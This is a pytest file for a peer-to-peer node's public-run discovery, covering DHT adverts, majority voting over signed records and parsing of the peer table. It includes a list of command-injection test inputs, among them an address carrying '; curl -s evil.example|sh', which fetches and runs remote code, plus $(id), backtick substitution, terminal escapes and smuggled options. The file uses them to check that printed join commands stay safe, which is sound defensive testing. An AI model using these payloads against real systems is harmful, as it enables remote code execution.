"""Runs that strangers can see: who says what, and what is made of different words."""

import shlex
from dataclasses import replace
from pathlib import Path

import pytest
from trio.testing import MockClock

from dht.kademlia.keyspace import topic_key
from dht.kademlia.records import SignedRecord, sign_record
from dht.kademlia.routing import Contact
from node.commands.founding import _print_runs
from node.peers.joining import parse_target
from node.peers.public_runs import advert_of, find_public_runs, public_runs, say_run, topic_of
from node.state.known_peers import DHT_TABLE_FILE, KnownPeer, KnownPeers, read_table
from protocol.identity import Ed25519Signer, peer_id_text
from protocol.wire import encode
from tests.dht.nodes import open_nodes, seed_of
from tests.memory_transport import MemoryNetwork
from tests.node.edge import toy_manifest

OPEN = replace(toy_manifest(), trust="open")
ADDRESS = "/ip4/203.0.113.1/tcp/4001"


def record(number: int, value: bytes) -> SignedRecord:
    key = topic_key(topic_of(OPEN.digest))
    signer = Ed25519Signer(seed_of(number))
    return sign_record(signer, key, value, sequence=1, expires_unix_s=2**31)


async def test_run_for_strangers_is_seen_and_one_of_friends_is_not(
    autojump_clock: MockClock,
) -> None:
    async with open_nodes(MemoryNetwork(), 4) as nodes:
        for node in nodes[:2]:
            await say_run(node.directory, OPEN, [ADDRESS])
        await say_run(nodes[2].directory, toy_manifest(), [ADDRESS])
        (run,) = await find_public_runs(nodes[3].directory)
        assert run.advert == advert_of(OPEN, [ADDRESS])
        told = run.as_json()
        assert told["title"] == OPEN.title
        assert told["peers"] == 2
        assert told["join"] == [
            f"{ADDRESS}/p2p/{peer_id_text(peer)}"
            for peer in sorted(node.contact.peer for node in nodes[:2])
        ]


def test_where_words_differ_those_of_most_peers_count_and_garbage_counts_nothing() -> None:
    honest = advert_of(OPEN, [ADDRESS])
    liar = encode(replace(honest, title="free money"))
    records = [record(1, encode(honest)), record(2, liar), record(3, encode(honest))]
    (run,) = public_runs([record(4, b"\x01"), *records])
    assert run.advert.title == OPEN.title
    assert len(run.peers) == 2


SHELL = (
    "/ip4/203.0.113.7/tcp/4001;curl -s evil.example|sh;#",
    "/dns/$(id)/tcp/4001",
    "/dns/a`id`/tcp/4001",
    "/ip6/fe80::1%;id;/tcp/4001",
    "/ip4/203.0.113.7/tcp/4001/p2p/x\nbarnraise\x1b[2K",
    "/ip4/203.0.113.7/tcp/4001 --state /etc",
    "--psk=x",
)


@pytest.mark.parametrize("said", SHELL, ids=ascii)
def test_no_word_of_a_stranger_becomes_part_of_a_command(
    said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """What is printed to be pasted is an address that `barnraise join` takes, or nothing."""
    found = public_runs([record(1, encode(replace(advert_of(OPEN, [ADDRESS]), addresses=(said,))))])
    assert found[0].join_addresses() == found[0].as_json()["join"] == []
    _print_runs(found)
    assert "barnraise join" not in capsys.readouterr().out


def test_an_address_behind_a_strange_one_is_told_as_one_word(
    capsys: pytest.CaptureFixture[str],
) -> None:
    advert = replace(advert_of(OPEN, [ADDRESS]), addresses=(SHELL[0], ADDRESS))
    found = public_runs([record(1, encode(advert))])
    (address,) = found[0].join_addresses()
    _print_runs(found)
    (line,) = [line for line in capsys.readouterr().out.splitlines() if "barnraise join" in line]
    command = line.partition(": ")[2]
    assert shlex.split(command) == ["barnraise", "join", address]
    assert parse_target(address).addresses[0].address == ADDRESS


def test_table_is_read_back_and_a_damaged_file_is_nobody(tmp_path: Path) -> None:
    assert read_table(tmp_path) == ()
    peer = Ed25519Signer(seed_of(1)).peer_id
    known = KnownPeers({bytes(32): (KnownPeer(peer, (ADDRESS,), 7),)})
    (tmp_path / DHT_TABLE_FILE).write_bytes(known.encode())
    assert read_table(tmp_path) == (Contact(peer, (ADDRESS,)),)
    (tmp_path / DHT_TABLE_FILE).write_bytes(known.encode()[:-9])
    assert read_table(tmp_path) == ()
